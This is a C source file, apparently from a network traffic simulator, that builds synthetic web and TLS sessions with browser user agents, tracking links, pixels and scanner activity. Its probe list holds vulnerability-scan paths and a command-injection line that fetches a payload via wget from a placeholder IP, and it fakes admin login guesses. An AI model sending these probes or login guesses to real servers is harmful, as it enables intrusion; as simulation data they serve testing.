// SPDX-License-Identifier: GPL-2.0-or-later
#include <stdio.h>
#include <string.h>

#include "agents.h"
#include "private.h"
#include "tls.h"

enum phase { PHASE_REQUEST, PHASE_ANSWER, PHASE_HELLO, PHASE_FLIGHT, PHASE_FINISHED };

const struct agent_row agent_rows[AGENTS] = {
	[AGENT_CHROME] = { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
			   TLS_CHROME },
	[AGENT_EDGE] = { "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
			 "Safari/537.36 Edg/131.0.0.0", TLS_CHROME },
	[AGENT_FIREFOX] = { "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", TLS_FIREFOX },
	[AGENT_SAFARI] = { "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
			   "Safari/605.1.15", TLS_SAFARI },
	[AGENT_IPHONE] = { "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
			   "Mobile/15E148 Safari/604.1", TLS_SAFARI },
	[AGENT_ANDROID] = { "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile "
			    "Safari/537.36", TLS_ANDROID },
	[AGENT_CURL] = { "curl/7.88.1", TLS_OPENSSL },
	[AGENT_PYTHON] = { "python-requests/2.31.0", TLS_PYTHON },
	[AGENT_GO] = { "Go-http-client/1.1", TLS_GO },
	[AGENT_OLD] = { "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", TLS_SMALL },
	[AGENT_DEVICE] = { "SmartHub/2.1", TLS_SMALL },
	[AGENT_GOOGLEBOT] = { "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", TLS_GO },
	[AGENT_IMAGE_PROXY] = { "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)", TLS_GO },
	[AGENT_HEADLESS] = { "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.109 Safari/537.36",
			     TLS_CHROME },
	[AGENT_CRAWLER] = { "Mozilla/5.0 (compatible; ResearchCrawler/1.0; +http://crawler.example/info)", TLS_PYTHON },
};

/* Paths that nobody asks for but who looks for holes. */
static const char *const probes[] = {
	"/.env", "/wp-login.php", "/phpmyadmin/index.php", "/.git/config", "/cgi-bin/luci", "/boaform/admin/formLogin",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/shell?cd+/tmp;wget+http://192.0.2.9/x", "/manager/html", "/actuator/env",
	"/solr/admin/info/system", "/xmlrpc.php", "/backup.zip", "/config.json", "/server-status", "/owa/auth/logon.aspx",
};

static __u64 draw_of(const struct flow *f)
{
	return chance_mix(f->seed, f->say.web.request);
}

static enum web_path what(const struct flow *f)
{
	const struct web_talk *s = &f->say.web;

	if (s->flags & WEB_ROBOTS && !s->request)
		return PATH_ROBOTS;
	if (s->flags & WEB_ASSETS && s->request)
		return draw_of(f) % 3 ? PATH_ASSET : PATH_IMAGE;
	return s->what;
}

static size_t put_path(const struct flow *f, char *out)
{
	const struct web_talk *s = &f->say.web;
	__u64 draw = draw_of(f);
	__u32 path = s->path + s->request;

	switch (what(f)) {
	case PATH_ASSET:
		return (size_t)sprintf(out, draw & 16 ? "/static/app-%u.js" : "/static/style-%u.css", (__u32)(draw >> 8) % 400);
	case PATH_IMAGE:
		return (size_t)sprintf(out, "/img/%u.jpg", (__u32)(draw >> 8) % 5000);
	case PATH_TOKEN:
		return (size_t)sprintf(out, "/t/%016llx", s->token);
	case PATH_PIXEL:
		return (size_t)sprintf(out, "/p/%016llx.gif", s->token);
	case PATH_PROBE:
		if (path % 3)
			return (size_t)sprintf(out, "/%s%u.php", path & 1 ? "admin" : "test", path);
		return (size_t)sprintf(out, "%s", probes[path / 3 % (sizeof(probes) / sizeof(*probes))]);
	case PATH_LOGIN:
		return (size_t)sprintf(out, "/wp-login.php");
	case PATH_ROBOTS:
		return (size_t)sprintf(out, "/robots.txt");
	case PATH_STATUS:
		return (size_t)sprintf(out, "/status");
	default:
		return (size_t)sprintf(out, "/%s/%u", draw & 1 ? "news" : "item", path % 100000);
	}
}

static size_t put_host(const struct traffic *t, const struct flow *f, char *out)
{
	const struct web_talk *s = &f->say.web;
	size_t len = 0;

	if (!(s->flags & WEB_INSIDE)) {
		memcpy(out, "www.", 4);
		len = 4;
	}
	return len + universe_domain(out + len, t->seed, s->kind, s->site);
}

static size_t put_request(const struct traffic *t, const struct flow *f, char *out)
{
	const struct web_talk *s = &f->say.web;
	bool post = s->what == PATH_LOGIN;
	char path[96], host[UNIVERSE_NAME + 8], form[64];
	char *at = out;
	size_t len;

	path[put_path(f, path)] = 0;
	host[put_host(t, f, host)] = 0;
	at += sprintf(at, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n", post ? "POST" : "GET", path, host,
		      agent_rows[s->agent].text);
	if (s->flags & WEB_COOKIE)
		at += sprintf(at, "Cookie: sid=%llx\r\nReferer: http://%s/\r\n", f->seed, host);
	if (!post)
		return (size_t)(at - out) + (size_t)sprintf(at, "\r\n");
	len = (size_t)sprintf(form, "log=admin&pwd=pass%llu", draw_of(f) % 1000000);
	return (size_t)(at - out) + (size_t)sprintf(at, "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %zu\r\n\r\n%s", len, form);
}

static __u16 status(const struct flow *f)
{
	const struct web_talk *s = &f->say.web;

	if (s->not_found && (draw_of(f) >> 20) % 255 < s->not_found)
		return 404;
	return s->status ? s->status : 200;
}

static size_t put_answer(const struct traffic *t, const struct flow *f, __u8 *out)
{
	const struct web_talk *s = &f->say.web;
	static const char *const types[] = { [PATH_PAGE] = "text/html", [PATH_ASSET] = "text/css", [PATH_IMAGE] = "image/avif",
					     [PATH_TOKEN] = "text/html", [PATH_PIXEL] = "image/gif", [PATH_PROBE] = "text/html",
					     [PATH_LOGIN] = "text/html", [PATH_ROBOTS] = "text/plain", [PATH_STATUS] = "text/plain" };
	/* One transparent pixel (GIF89a). */
	static const __u8 gif[43] = "GIF89a\1\0\1\0\200\0\0\0\0\0\377\377\377!\371\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;";
	__u16 code = status(f);
	__u32 bytes = code >= 300 ? 153 : what(f) == PATH_PIXEL ? sizeof(gif) : s->answer_bytes ? s->answer_bytes : 400 + (__u32)(draw_of(f) % 5000);
	char *at = (char *)out;

	at += sprintf(at, "HTTP/1.1 %u %s\r\nServer: nginx\r\nContent-Type: %s\r\nContent-Length: %u\r\n", code,
		      code == 200 ? "OK" : code == 404 ? "Not Found" : code == 302 ? "Found" : code == 401 ? "Unauthorized" : "Error",
		      types[what(f)], bytes);
	if (code == 302)
		at += sprintf(at, "Location: /wp-login.php?failed=1\r\n");
	if (code == 401)
		at += sprintf(at, "WWW-Authenticate: Basic realm=\"a\"\r\n");
	at += sprintf(at, "\r\n");
	memcpy(at, bytes == sizeof(gif) ? gif : t->noise + f->seed % 32768, bytes);
	return (size_t)(at - (char *)out) + bytes;
}

static size_t web_render(const struct traffic *t, const struct flow *f, __u8 *out)
{
	const struct web_talk *s = &f->say.web;
	char name[UNIVERSE_NAME + 8];
	size_t len;

	switch (s->phase) {
	case PHASE_HELLO:
		len = put_host(t, f, name);
		return tls_hello(out, s->hello, f->seed, name, len);
	case PHASE_FLIGHT:
		return tls_flight(out, t->noise, f->seed, 2200 + chance_mix(t->seed, s->site) % 2000);
	case PHASE_FINISHED:
		return tls_finished(out, t->noise, f->seed);
	case PHASE_REQUEST:
		if (s->flags & WEB_TLS)
			return tls_records(out, t->noise, f->seed + f->turn, 250 + draw_of(f) % 400);
		return put_request(t, f, (char *)out);
	default:
		if (s->flags & WEB_TLS)
			return tls_records(out, t->noise, f->seed + f->turn, s->answer_bytes ? s->answer_bytes : 500 + draw_of(f) % 5000);
		return put_answer(t, f, out);
	}
}

static void enter(struct flow *f, enum phase phase, __u32 us)
{
	f->say.web.phase = phase;
	f->next = (struct turn){ TURN_SAY, phase == PHASE_ANSWER || phase == PHASE_FLIGHT ? SERVER : CLIENT, us };
}

static void web_begin(struct traffic *t, struct flow *f)
{
	(void)t;
	enter(f, f->say.web.flags & WEB_TLS ? PHASE_HELLO : PHASE_REQUEST, 150);
}

static void count_tokens(struct traffic *t, const struct flow *f)
{
	const struct web_talk *s = &f->say.web;
	struct traffic_tokens *k = &t->totals.tokens;

	if (s->flags & WEB_TLS)
		return;
	if (what(f) == PATH_TOKEN) {
		k->link_fetches++;
		k->link_robots += s->robot;
		k->link_clicked += !s->robot; /* a human follows a link once */
	} else if (what(f) == PATH_PIXEL) {
		k->pixel_fetches++;
		k->pixel_robots += s->robot;
		k->pixel_opened += !s->robot;
	}
}

static void request_passed(struct traffic *t, struct flow *f)
{
	struct web_talk *s = &f->say.web;

	if (!(s->flags & WEB_TLS))
		flow_acts(t, f)->http_requests++;
	count_tokens(t, f);
	if (f->malice == MALICE_REQUEST)
		host_malice(t, f, MALICE_REQUEST);
	if (s->flags & WEB_SILENT)
		f->next = (struct turn){ TURN_FIN, CLIENT, 400000 };
	else
		enter(f, PHASE_ANSWER, 2000 + (__u32)(draw_of(f) % 60000));
}

static void answer_passed(struct traffic *t, struct flow *f)
{
	struct web_talk *s = &f->say.web;
	__u16 code = status(f);

	if (!(s->flags & WEB_TLS)) {
		flow_acts(t, f)->http_4xx += code >= 400 && code < 500;
		flow_acts(t, f)->logins_refused += s->what == PATH_LOGIN && (code == 401 || code == 302);
	}
	if (f->malice == MALICE_TRY)
		host_malice(t, f, MALICE_TRY);
	if (++s->request < s->requests) {
		enter(f, PHASE_REQUEST, s->gap_us ? s->gap_us : 3000 + (__u32)(draw_of(f) % 50000));
		return;
	}
	f->next = (struct turn){ TURN_FIN, s->flags & WEB_KEEP ? SERVER : CLIENT, 1000 + (__u32)(f->seed % 900000) };
}

static void web_passed(struct traffic *t, struct flow *f)
{
	switch (f->say.web.phase) {
	case PHASE_HELLO:
		flow_acts(t, f)->tls_hellos++;
		enter(f, PHASE_FLIGHT, 1500);
		break;
	case PHASE_FLIGHT:
		enter(f, PHASE_FINISHED, 500);
		break;
	case PHASE_FINISHED:
		enter(f, PHASE_REQUEST, 200);
		break;
	case PHASE_REQUEST:
		request_passed(t, f);
		break;
	default:
		answer_passed(t, f);
		break;
	}
}

const struct talk talk_web = { "web", web_begin, web_render, web_passed };
